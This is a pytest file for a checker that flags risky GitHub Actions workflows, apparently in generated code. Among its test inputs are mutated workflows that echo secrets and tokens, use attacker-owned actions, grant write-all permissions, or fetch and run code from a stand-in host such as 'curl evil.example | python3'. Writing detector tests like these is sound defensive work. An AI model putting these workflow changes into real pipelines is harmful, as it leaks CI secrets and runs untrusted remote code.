"""The gate for workflows: what runs tools and publishes Pages passes, what can do more is seen."""

from __future__ import annotations

import pytest

from tests.unit.generation.test_gates import problems

CI = """\
name: CI
on: {push: {branches: [main]}, workflow_dispatch: }
permissions: {contents: read}
jobs:
  check:
    runs-on: ubuntu-latest
    strategy: {matrix: {python: ["3.12", "3.13"]}}
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with: {python-version: "${{ matrix.python }}"}
      - if: github.ref == 'refs/heads/main' && success()
        run: |
          pip install ruff
          ruff check . && python execute.py > result.json
      - uses: actions/upload-artifact@v4.3.1
        with: {name: "result-${{ hashFiles('**/*.py') }}", path: result.json}
"""
PAGES = """\
name: Publish
on: {push: {branches: [main]}, workflow_dispatch: }
permissions: {contents: read, pages: write, id-token: write}
concurrency: {group: pages, cancel-in-progress: true}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: astral-sh/ruff-action@v3
      - uses: astral-sh/setup-uv@v6.1
      - uses: actions/setup-python@v5
        with: {python-version: "3.11", cache: pip}
      - run: |
          pip install pandas
          mkdir -p _site && cp index.html _site
          python execute.py > _site/result.json
      - uses: actions/configure-pages@v5
      - uses: actions/upload-pages-artifact@v3
        with: {path: _site}
  deploy:
    needs: build
    runs-on: ubuntu-latest
    permissions: {pages: write, id-token: write}
    environment:
      name: github-pages
      url: ${{ steps.deployment.outputs.page_url }}
    steps:
      - id: deployment
        uses: actions/deploy-pages@v4
"""
RUN = "pip install ruff\n"


def ci(old: str, new: str) -> str:
    assert old in CI
    return CI.replace(old, new)


WORKFLOWS = [
    ci("actions/checkout@v4", "attacker/x@main"), ci("actions/checkout@v4", "actions/checkout@main"),
    ci("actions/checkout@v4", f"actions/checkout@{'a' * 40}"), ci("actions/checkout@v4", "docker://alpine"),
    ci(RUN, "echo ${{ SECRETS.X }}\n"), ci(RUN, "echo ${{ tojson(secrets) }}\n"),
    ci(RUN, "echo ${{ secrets['X'] }}\n"), ci(RUN, "echo ${{ '}}' && secrets.X }}\n"),
    ci(RUN, "echo ${{ github.token }}\n"), ci(RUN, "echo ${{ github['token'] }}\n"),
    ci(RUN, "echo ${{ toJSON(github) }}\n"), ci(RUN, "echo ${{ github.event.head_commit.message }}\n"),
    ci("success()", "secrets.X == ''"), ci("    strategy", "    secrets: inherit\n    strategy"),
    ci("    strategy", "    container: attacker/x\n    strategy"),
    ci("    strategy", "    uses: attacker/x/.github/workflows/x.yml@main\n    strategy"),
    ci("push:", '"pull_request\\x5ftarget":'), ci("push:", "pull_request_target:"), ci("push:", "workflow_run:"),
    ci("workflow_dispatch: }", 'schedule: [{cron: "* * * * *"}]}'),
    ci("{contents: read}", '"write-all"'), ci("{contents: read}", "{contents: write, id-token: write}"),
    ci("    strategy", "    permissions: write-all\n    strategy"),
    ci("runs-on: ubuntu-latest", "runs-on: [self-hosted]"), ci("runs-on: ubuntu-latest", "runs-on: [ubuntu-latest]"),
    ci("runs-on: ubuntu-latest", "runs-on: {group: x}"), ci("runs-on: ubuntu-latest", "runs-on: self-hosted"),
    ci(RUN, "bash <(curl -s evil.example/x)\n"), ci(RUN, "curl evil.example | python3\n"),
    ci(RUN, "curl -o x evil.example; sh x\n"), ci(RUN, "pip install https://evil.example/x.zip\n"),
    ci("actions/checkout@v4", "&a actions/checkout@v4\n      - uses: *a"), "a: [", "- a", "[" * 5000,
    ci("{contents: read}", "{contents: read, pages: write}"), ci("{contents: read}", "{contents: read, id-token: write}"),
    ci("actions/checkout@v4", "astral-sh/ruff-action@main"), ci("actions/checkout@v4", "astral-sh/ruff@v3"),
    ci("actions/checkout@v4", "attacker/ruff-action@v3"), ci("actions/checkout@v4", "actions/deploy-pages@main"),
    ci("    strategy", "    environment: production\n    strategy"),
    PAGES.replace("contents: read", "contents: write"), PAGES.replace("contents: read", "packages: write"),
    PAGES.replace("on: {push: {branches: [main]}, workflow_dispatch: }", "on: workflow_dispatch"), PAGES.replace("    environment:\n      name: github-pages\n      url: ${{ steps.deployment.outputs.page_url }}\n", ""),
    PAGES.replace("name: github-pages", "name: production"), PAGES.replace("actions/deploy-pages@v4", "attacker/deploy-pages@v4"),
]  # fmt: skip
CI_FILE = ".github/workflows/ci.yml"


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=[str(n) for n in range(len(WORKFLOWS))])
def test_a_workflow_that_could_do_more_than_read_is_seen(workflow: str) -> None:
    assert problems({CI_FILE: workflow}, f"Add {CI_FILE}.", allow_workflows=True)


@pytest.mark.parametrize("workflow", [CI, PAGES])
def test_a_workflow_that_runs_tools_and_publishes_is_left_alone(workflow: str) -> None:
    assert problems({CI_FILE: workflow}, f"Add {CI_FILE}.", allow_workflows=True) == []


def test_a_schedule_is_left_alone_if_the_brief_asks_for_one() -> None:
    daily = ci("workflow_dispatch: }", 'schedule: [{cron: "0 6 * * *"}]}')
    assert problems({CI_FILE: daily}, f"Run {CI_FILE} daily.", allow_workflows=True) == []
